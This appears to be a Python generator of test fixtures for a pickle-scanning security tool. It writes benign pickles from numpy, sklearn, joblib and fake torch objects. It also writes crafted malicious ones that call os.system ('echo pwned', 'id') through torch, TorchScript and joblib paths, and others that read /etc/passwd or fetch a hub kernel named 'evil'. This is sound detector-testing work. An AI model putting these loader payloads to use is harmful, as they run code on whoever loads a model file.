    mal("eco_legacy_torch_module_persid.pkl",
        p2(MARK + sbu("module") + glob("os", "system") + sbu("x.py") + sbu("") + TUPLE + b"Q" + sbu("echo pwned")
           + TUPLE1 + NEWOBJ),
        ["posix.system"], "a legacy torch ('module', os.system, …) persistent id instantiated with NEWOBJ", ref)
    # TorchScript's identity helpers pass values through: what they return is still judged.
    mal("eco_torchscript_identity_passthrough.pkl",
        p4(sg("torch.jit._pickle", "restore_type_tag") + sg("os", "system") + sbu("List[int]") + TUPLE2 + REDUCE
           + sbu("echo pwned") + TUPLE1 + REDUCE),
        ["posix.system"], "restore_type_tag(os.system, …) returns os.system, which is then called", ref)
    # A class allowed for NEWOBJ only, called with REDUCE (its __init__ reads model_file).
    mal("eco_new_only_bert_call.pkl",
        p4(sg("transformers.models.bert.modeling_bert", "BertModel") + sg("transformers.models.bert.configuration_bert",
           "BertConfig") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + sbu("_attn_implementation")
           + sbu("kernels-community/evil") + SETITEM + BUILD + TUPLE1 + REDUCE),
        ["transformers.models.bert.modeling_bert.BertModel", "NEWOBJ only"],
        "BertModel(config) runs PreTrainedModel.__init__, which may fetch a hub kernel the config names", ref,
        verdict="suspicious")
    mal("eco_new_only_booster_call.pkl",
        p4(call1(sg("lightgbm.basic", "Booster"), sbu("/etc/passwd"))),
        ["lightgbm.basic.Booster", "NEWOBJ only"], "Booster('/etc/passwd') runs __init__, which reads the file", ref,
        verdict="suspicious")


def joblib_like():
    """joblib's layout by hand (joblib/numpy_pickle.py NumpyArrayWrapper.write_array): the wrapper is pickled,
    then the array bytes follow its BUILD: one padding-length byte, padding, raw data; object arrays are a whole
    protocol 2 pickle instead."""

    def wrapper(shape, dtype_str, elsize, flags, payload_after, align=True):
        state = EMPTY_DICT + MARK
        state += sbu("subclass") + sg("numpy", "ndarray")
        state += sbu("shape") + b"".join(b"K" + bytes([d]) for d in shape) + {1: TUPLE1, 2: TUPLE2, 3: TUPLE3}[len(shape)]
        state += sbu("order") + sbu("C")
        state += sbu("dtype") + sg("numpy", "dtype") + sbu(dtype_str) + b"\x89" + b"\x88" + TUPLE3 + REDUCE
        state += (MARK + b"K\x03" + sbu("<" if dtype_str != "O8" else "|") + NONE + NONE + NONE
                  + b"J" + struct.pack("<i", elsize) + b"J" + struct.pack("<i", -1 if dtype_str != "O8" else 8)
                  + b"K" + bytes([flags]) + TUPLE + BUILD)
        state += sbu("allow_mmap") + b"\x89"
        if align:
            state += sbu("numpy_array_alignment_bytes") + b"K\x10"
        state += SETITEMS
        body = PROTO(4) + EMPTY_LIST + MARK
        body += sg("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
        return body, payload_after

    # numeric array whose raw bytes spell a malicious pickle: joblib skips them, so must we (benign)
    raw = pickle.dumps(Reduce(os.system, ("id",)), protocol=2)
    raw = raw + b"\x00" * (-len(raw) % 8)
    n = len(raw) // 8
    body, _ = wrapper((n,), "f8", -1, 0, None)
    pad = 16 - ((len(body) + 1) % 16)
    data = body + bytes([pad]) + b"\xff" * pad + raw + b"e" + STOP
    write("benign", "joblib_like_f8_array_spelling_pickle.pkl", data, "clean", [],
          "joblib inline float64 array whose bytes spell an os.system pickle: skipped exactly as joblib reads it")
    # object array: the inline data is a pickle of its own and is analysed
    inner = pickle.dumps(Reduce(os.system, ("id",)), protocol=2)
    body, _ = wrapper((1,), "O8", -1, 63, None)
    data = body + inner + b"e" + STOP
    mal("joblib_like_object_array.pkl", data, ["posix.system"],
        "joblib object array: its inline data is a pickle, and it calls os.system")
    # structured / unicode dtype with element size from BUILD state, no alignment (older joblib)
    body, _ = wrapper((2, 3), "U5", 20, 0, None, align=False)
    data = body + b"\x00" * (6 * 20) + b"e" + STOP
    write("benign", "joblib_like_unicode_noalign.pkl", data, "clean", [], "joblib U5 array, no alignment byte")


# ----- benign ------------------------------------------------------------------------------------------------------
def plain():
    return {
        "ints": [0, 1, -1, 255, 256, 65535, 65536, -(2**31), 2**31, 2**63, -(2**100), 10**30],
        "floats": [0.0, -1.5, 1e-300, float("inf")],
        "str": ["", "a", "caf\xe9", "\u1234\U0001f600", "x" * 300, "quote'\"", "back\\slash\n"],
        "bytes": [b"", b"\x00\xff", b"y" * 300],
        "bytearray": bytearray(b"ba"),
        "tuple": (1, (2, (3,)), ()),
        "set": {1, 2}, "frozenset": frozenset({"a"}),
        "none": None, "bools": [True, False],
        "nested": {"k": [{"a": [1, 2]}, ()]},
        "complex": 1 + 2j,
    }


def stdlib_types():
    return {
        "dt": datetime.datetime(2024, 5, 6, 7, 8, 9, 10), "date": datetime.date(2020, 1, 1),
        "time": datetime.time(1, 2), "td": datetime.timedelta(days=3),
        "tz": datetime.datetime(2020, 1, 1, tzinfo=datetime.timezone.utc),
        "dec": decimal.Decimal("3.14159"), "frac": fractions.Fraction(1, 3),
        "uuid": uuid.UUID("12345678-1234-5678-1234-567812345678"),
        "od": collections.OrderedDict([("a", 1), ("b", 2)]), "dq": collections.deque([1, 2]),
        "ctr": collections.Counter("hello"), "dd": collections.defaultdict(list, {"x": [1]}),
        "pp": pathlib.PurePosixPath("/a/b"), "pw": pathlib.PureWindowsPath("c:/x"),
        "range": range(3), "slice": slice(1, 2), "ns": types.SimpleNamespace(a=1),
    }


def install_fake_torch():
    """Fake torch modules with torch's own names, so pickle writes the exact stream torch.save writes."""
    torch = types.ModuleType("torch")
    utils = types.ModuleType("torch._utils")

    def _rebuild_tensor_v2(*a):  # noqa: ARG001 - never called
        raise AssertionError

    def _rebuild_parameter(*a):  # noqa: ARG001
        raise AssertionError

    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_parameter.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    _rebuild_parameter.__qualname__ = "_rebuild_parameter"
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2
    utils._rebuild_parameter = _rebuild_parameter

    class FloatStorage:
        pass

    class BFloat16Storage:
        pass

    FloatStorage.__qualname__ = "FloatStorage"
    BFloat16Storage.__qualname__ = "BFloat16Storage"
    FloatStorage.__module__ = "torch"
    BFloat16Storage.__module__ = "torch"
    torch.FloatStorage, torch.BFloat16Storage, torch._utils = FloatStorage, BFloat16Storage, utils
    sys.modules["torch"], sys.modules["torch._utils"] = torch, utils
    return torch, utils


class Storage:
    def __init__(self, cls, key, numel):
        self.cls, self.key, self.numel = cls, key, numel


class Tensor:
    def __init__(self, storage, size, param=False):
        self.storage, self.size, self.param = storage, size, param

    def __reduce_ex__(self, proto):
        import torch._utils as u  # the fake module
        stride = tuple(int(_prod(self.size[i + 1:])) for i in range(len(self.size)))
        t = (u._rebuild_tensor_v2, (self.storage, 0, tuple(self.size), stride, False, collections.OrderedDict()))
        if self.param:
            return (u._rebuild_parameter, (_Reduced(t), True, collections.OrderedDict()))
        return t


class _Reduced:
    def __init__(self, r):
        self.r = r

    def __reduce__(self):
        return self.r


def _prod(xs):
    p = 1
    for x in xs:
        p *= x
    return p


class TorchPickler(pickle.Pickler):
    """torch.serialization._save's persistent_id: ('storage', storage_type, key, location, numel)."""

    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", obj.cls, obj.key, "cpu", obj.numel)
        return None


def torch_state_dict(param=False):
    torch, _ = install_fake_torch()
    sd = collections.OrderedDict()
    sd["layer.weight"] = Tensor(Storage(torch.FloatStorage, "0", 6), (2, 3), param)
    sd["layer.bias"] = Tensor(Storage(torch.BFloat16Storage, "1", 2), (2,), param)
    sd["step"] = 10
    sd._metadata = collections.OrderedDict([("", {"version": 1}), ("layer", {"version": 1})])
    buf = io.BytesIO()
    try:
        TorchPickler(buf, protocol=2).dump(sd)
    finally:
        # Other libraries probe sys.modules["torch"]; the fake must not outlive the dump.
        del sys.modules["torch"], sys.modules["torch._utils"]
    return buf.getvalue()


def benign():
    for p in range(6):
        ben(f"plain_p{p}.pkl", pickle.dumps(plain(), protocol=p), f"plain data types, protocol {p}")
        ben(f"stdlib_types_p{p}.pkl", pickle.dumps(stdlib_types(), protocol=p), f"stdlib data types, protocol {p}")
    ben("torch_state_dict_data.pkl", torch_state_dict(), "the data.pkl torch.save writes for a state dict")
    ben("torch_parameters_data.pkl", torch_state_dict(True), "torch.save of parameters (_rebuild_parameter)")
    ben("stacked_plain.pkl", pickle.dumps([1], protocol=2) + pickle.dumps({"b": 2}, protocol=4),
        "two stacked benign pickles")
    ben("empty_containers_p4.pkl", pickle.dumps([[], {}, (), set(), frozenset(), ""], protocol=4), "empties")
    ben("deep_nesting.pkl", pickle.dumps(_deep(200), protocol=4), "200 nested lists")
    ben("p5_out_of_band_shape.pkl", pickle.dumps([bytearray(b"x" * 1000)], protocol=5), "protocol 5 bytearray")
    ben("big_bytes.pkl", pickle.dumps({"blob": b"\x00" * 1_100_000}, protocol=4), "1.1 MB bytes value")
    real_libraries()


def _deep(n):
    x = []
    for _ in range(n):
        x = [x]
    return x


def real_libraries():
    try:
        import joblib
        import numpy as np
        import sklearn  # noqa: F401
    except ImportError:
        print("numpy/scikit-learn/joblib not importable: real-library benign files kept as committed")
        return
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.feature_extraction.text import TfidfVectorizer

    rng = np.random.default_rng(0)
    X = rng.random((30, 4))
    y = (X[:, 0] > 0.5).astype(int)
    objs = {
        "np_float_array": np.arange(12, dtype=np.float64).reshape(3, 4),
        "np_structured": np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8")]),
        "np_unicode": np.array(["ab", "cde"]),
        "np_object": np.array([1, "a", None], dtype=object),
        "np_scalar": np.float64(2.5),
        "np_rng": np.random.default_rng(1),
        "sk_logreg": LogisticRegression().fit(X, y),
        "sk_forest": RandomForestClassifier(n_estimators=2, random_state=0).fit(X, y),
        "sk_pipeline": Pipeline([("s", StandardScaler()), ("m", LogisticRegression())]).fit(X, y),
        "sk_tfidf": TfidfVectorizer().fit(["alpha beta", "beta gamma"]),
    }
    for name, obj in objs.items():
        for p in (2, 4, 5):
            ben(f"real/{name}_p{p}.pkl", pickle.dumps(obj, protocol=p), f"{name} by pickle protocol {p}")
        if name.startswith("np_"):
            # NumPy 1 wrote numpy.core where NumPy 2 writes numpy._core; protocol 2 names are GLOBAL lines, so the
            # NumPy 1 stream is the same bytes with the module renamed.
            data = pickle.dumps(obj, protocol=2).replace(b"numpy._core", b"numpy.core")
            ben(f"real/{name}_numpy1_p2.pkl", data, f"{name} as NumPy 1 pickles it (numpy.core paths)")
        b = io.BytesIO()
        joblib.dump(obj, b)
        ben(f"real/{name}.joblib", b.getvalue(), f"{name} by joblib.dump (inline arrays)")


def disassemblies():
    """pickletools.dis output for a few files, for `mlsc disasm` comparisons."""
    out = ROOT / "dis"
    out.mkdir(parents=True, exist_ok=True)
    names = [
        "benign/plain_p0.pkl", "benign/plain_p1.pkl", "benign/plain_p2.pkl", "benign/plain_p3.pkl",
        "benign/plain_p4.pkl", "benign/plain_p5.pkl", "benign/stdlib_types_p0.pkl", "benign/stdlib_types_p4.pkl",
        "benign/torch_state_dict_data.pkl", "malicious/names_unicode_escapes.pkl",
        "malicious/names_string_escapes.pkl", "malicious/ext_registered.pkl", "malicious/newobj_ex_popen.pkl",
        "malicious/memo_decoy_strings.pkl", "malicious/reduce_os_system_p0.pkl",
    ]
    for n in names:
        buf = io.StringIO()
        pickletools.dis((ROOT / n).read_bytes(), out=buf)
        (out / (n.replace("/", "__") + ".txt")).write_text(buf.getvalue())


def main():
    malicious()
    benign()
    disassemblies()
    (ROOT / "manifest.json").write_text(json.dumps(MANIFEST, indent=1) + "\n")
    print(f"wrote {len(MANIFEST)} files to {ROOT}")


if __name__ == "__main__":
    main()
